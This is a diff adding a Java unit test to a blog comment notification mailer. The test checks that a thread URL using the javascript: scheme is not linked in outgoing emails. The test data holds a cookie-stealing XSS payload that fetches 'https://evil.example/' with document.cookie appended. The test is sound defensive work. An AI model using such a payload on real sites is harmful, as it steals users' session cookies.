@@ -139,6 +139,24 @@ class MailHeadersTest {
   }
 
   @Test
+  void threadUrlThatIsNoWebPage_isNotLinked() throws Exception {
+    OutboxSender sender = sender().build();
+    // the servlet takes only http(s) thread URLs, the Comments API and imports anything without spaces
+    comments.post(NewComment.builder(ThreadKey.of("posts/trap")).threadTitle("Trap")
+        .threadUrl("javascript:fetch('https://evil.example/'+document.cookie)//")
+        .author(Author.named("Mallory").withEmail("mallory@example.org")).text("hi").build());
+    drain(sender);
+
+    MimeMessage[] got = SMTP.getReceivedMessages();
+    assertThat(got).hasSize(1);
+    jakarta.mail.Multipart parts = (jakarta.mail.Multipart) got[0].getContent();
+    String text = (String) parts.getBodyPart(0).getContent();
+    String html = (String) parts.getBodyPart(1).getContent();
+    assertThat(text).doesNotContainIgnoringCase("javascript:");
+    assertThat(html).doesNotContainIgnoringCase("javascript:").contains("href=\"https://blog.example.org/comments\"");
+  }
+
+  @Test
   void moderatorUnsubscribeUrl_notHttp_isRefusedAtStartup() {
     assertThatThrownBy(() -> sender().moderatorUnsubscribeUrl("ftp://blog.example.org/admin"))
         .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("http(s)");
